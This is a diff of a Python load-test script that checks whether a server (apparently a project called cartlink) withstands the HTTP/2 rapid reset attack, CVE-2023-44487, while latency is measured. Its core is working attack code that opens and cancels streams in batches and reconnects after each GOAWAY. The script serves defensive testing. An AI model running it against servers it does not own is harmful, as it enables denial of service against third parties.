@@ -1,43 +1,52 @@
 #!/usr/bin/env python3
 """HTTP/2 rapid reset (CVE-2023-44487) against cartlink's h2c (prior knowledge) listener.
 
-ATTACKERS connections each open streams (HEADERS) and cancel them at once (RST_STREAM CANCEL)
-as fast as they can for DURATION s, while LEGIT keep-alive HTTP/1.1 connections measure
-normal latency at RATE req/s; a clean phase first gives the baseline.
+ATTACKERS connections, in their own lower-priority process, each open streams (HEADERS) and
+cancel them at once (RST_STREAM CANCEL) as fast as they can, reconnecting after each GOAWAY, for
+the whole attack phase. Legit traffic is measured by oha at a fixed rate (open loop, latency
+corrected) over HTTP/1.1 and over h2c (`oha --http2`), each once clean and once under attack.
 
-Verdict: PASS when every attacker connection got GOAWAY (or was closed) by the server,
-legit p99 under attack <= 1.2 x clean p99 (+0.5 ms client jitter allowance), and no legit
-request failed. Needs `pip install h2`.
+Verdict: PASS when every attacker connection got GOAWAY or was closed by the server (a
+connection open at the end of the phase keeps attacking until that happens, at most 10 s more),
+each protocol's p99 under attack <= 1.2 x its clean p99, and no legit request failed.
+Needs Python h2 (`pip install h2`) and oha.
 
     python3 loadtest/h2_reset/h2_reset.py --addr 127.0.0.1:8080 --path /kit.SIG
 """
 import argparse
 import asyncio
+import json
 import os
 import sys
 import time
 
-import h2.config
-import h2.connection
-import h2.events
-import h2.errors
-
 sys.path.insert(0, os.path.join(os.path.dirname(__file__), "..", "slowloris"))
-from slowloris import legit, pct  # noqa: E402
+from slowloris import attack_child, need_oha, oha, show  # noqa: E402
 
 
-async def attacker(host, port, path, duration, out):
+async def attacker(host, port, path, end, out):
+    """One connection: HEADERS + RST_STREAM(CANCEL) in batches of 50 until the server sends
+    GOAWAY or closes, or until END + 10 s; appends (streams sent, how it ended)."""
+    import h2.config
+    import h2.connection
+    import h2.errors
+    import h2.events
+
     r, w = await asyncio.open_connection(host, port)
     conn = h2.connection.H2Connection(config=h2.config.H2Configuration(client_side=True))
     conn.initiate_connection()
     w.write(conn.data_to_send())
-    sent, goaway, end = 0, None, time.monotonic() + duration
+    sent, goaway = 0, None
     headers = [(":method", "GET"), (":path", path), (":scheme", "http"), (":authority", "x")]
 
     async def reader():
         nonlocal goaway
         while True:
-            data = await r.read(65536)
+            try:
+                data = await r.read(65536)
+            except (ConnectionError, OSError):
+                goaway = goaway or "reset"
+                return
             if not data:
                 goaway = goaway or "closed"
                 return
@@ -54,7 +63,7 @@ async def attacker(host, port, path, duration, out):
 
     rt = asyncio.create_task(reader())
     try:
-        while time.monotonic() < end and not goaway:
+        while time.monotonic() < end + 10 and not goaway:
             for _ in range(50):
                 sid = conn.get_next_available_stream_id()
                 conn.send_headers(sid, headers, end_stream=True)
@@ -63,54 +72,76 @@ async def attacker(host, port, path, duration, out):
             w.write(conn.data_to_send())
             await w.drain()
             await asyncio.sleep(0)
-    except Exception:
+    except Exception:  # the socket or h2's state machine, once the server has ended it
         pass
     await asyncio.wait([rt], timeout=5)
     out.append((sent, goaway))
-    w.close()
+    rt.cancel()
+    w.transport.abort()
 
 
-async def main():
+async def attack(host, port, path, n, duration):
+    out = []
+    end = time.monotonic() + duration
+
+    async def slot():
+        # Reconnect after each GOAWAY for the whole phase, as a real attacker would.
+        while time.monotonic() < end:
+            await attacker(host, port, path, end, out)
+
+    await asyncio.gather(*(slot() for _ in range(n)))
+    return out
+
+
+def main():
     ap = argparse.ArgumentParser()
     ap.add_argument("--addr", default="127.0.0.1:8080")
     ap.add_argument("--path", required=True)
-    ap.add_argument("--attackers", type=int, default=10)
-    ap.add_argument("--duration", type=float, default=15)
-    ap.add_argument("--rate", type=int, default=500)
-    ap.add_argument("--legit", type=int, default=8)
+    ap.add_argument("--attackers", type=int, default=10, help="attacker connections at a time")
+    ap.add_argument("--duration", type=float, default=15, help="seconds per measured phase")
+    ap.add_argument("--rate", type=int, default=1000, help="legit requests per second (oha -q)")
+    ap.add_argument("--conns", type=int, default=8, help="legit connections (oha -c)")
+    ap.add_argument("--no-h2", action="store_true", help="measure legit traffic over HTTP/1.1 only")
+    ap.add_argument("--attack-only", action="store_true", help=argparse.SUPPRESS)
     a = ap.parse_args()
     host, port = a.addr.rsplit(":", 1)
     port = int(port)
-    clean, clean_err = await legit(host, port, a.path, a.rate, a.duration, a.legit)
-    out = []
+    if a.attack_only:
+        print(json.dumps(asyncio.run(attack(host, port, a.path, a.attackers, a.duration))))
+        return 0
 
-    async def attack_loop():
-        end = time.monotonic() + a.duration
-        # Reconnect after each GOAWAY for the whole phase, as a real attacker would.
-        while time.monotonic() < end:
-            batch = []
-            await asyncio.gather(*(attacker(host, port, a.path, end - time.monotonic(), batch) for _ in range(a.attackers)))
-            out.extend(batch)
+    need_oha()
+    protos = [("http1", False)] + ([] if a.no_h2 else [("h2c", True)])
+    clean, under = {}, {}
+    for name, h2 in protos:
+        clean[name] = oha(a.addr, a.path, a.rate, a.duration, a.conns, http2=h2)
+        print(show(f"clean  {name:5}", clean[name]), flush=True)
+    # The attack covers every measured run, with 2 s on each side.
+    span = len(protos) * a.duration + 4
+    child = attack_child([__file__, "--attack-only", *sys.argv[1:], "--duration", str(span)])
+    time.sleep(2)
+    for name, h2 in protos:
+        under[name] = oha(a.addr, a.path, a.rate, a.duration, a.conns, http2=h2)
+        print(show(f"attack {name:5}", under[name]), flush=True)
+    out = json.loads(child.communicate()[0].strip().splitlines()[-1])
 
-    at = asyncio.create_task(attack_loop())
-    await asyncio.sleep(0.5)
-    attack, attack_err = await legit(host, port, a.path, a.rate, a.duration, a.legit)
-    await at
-    c99, x99 = pct(clean, 0.99), pct(attack, 0.99)
     conns = len(out)
-    stopped = [g for _, g in out if g]
     kinds = {}
-    for g in stopped:
-        kinds[g] = kinds.get(g, 0) + 1
+    for _, g in out:
+        kinds[str(g)] = kinds.get(str(g), 0) + 1
+    stopped = sum(v for k, v in kinds.items() if k != "None")
     resets = sum(s for s, _ in out)
-    print(f"clean : n={len(clean)} errors={clean_err} p99={c99*1e3:.2f}ms")
-    print(f"attack: n={len(attack)} errors={attack_err} p99={x99*1e3:.2f}ms")
-    print(f"attacker connections: {conns}, stopped by the server: {len(stopped)} {kinds}, "
-          f"streams opened+reset: {resets} ({resets / max(conns, 1):.0f} per connection)")
-    ok = conns > 0 and len(stopped) == conns and attack_err == 0 and clean_err == 0 and x99 <= 1.2 * c99 + 0.0005
-    print("VERDICT:", "PASS" if ok else "FAIL", f"(p99 ratio {x99 / c99:.2f})")
+    print(f"attacker connections: {conns}, stopped by the server: {stopped} {kinds}, "
+          f"streams opened+reset: {resets} ({resets / max(conns, 1):.0f} per connection, "
+          f"{resets / span:.0f}/s)")
+    ratios = {name: under[name]["p99"] / clean[name]["p99"] for name, _ in protos}
+    errors = sum(r["errors"] for r in (*clean.values(), *under.values()))
+    ok = conns > 0 and stopped == conns and errors == 0 and all(r <= 1.2 for r in ratios.values())
+    print("VERDICT:", "PASS" if ok else "FAIL",
+          "(" + ", ".join(f"{n} p99 ratio {r:.2f}" for n, r in ratios.items()) + " <= 1.2;"
+          f" legit errors {errors}; attacker connections not stopped: {conns - stopped}/{conns})")
     return 0 if ok else 1
 
 
 if __name__ == "__main__":
-    sys.exit(asyncio.run(main()))
+    sys.exit(main())
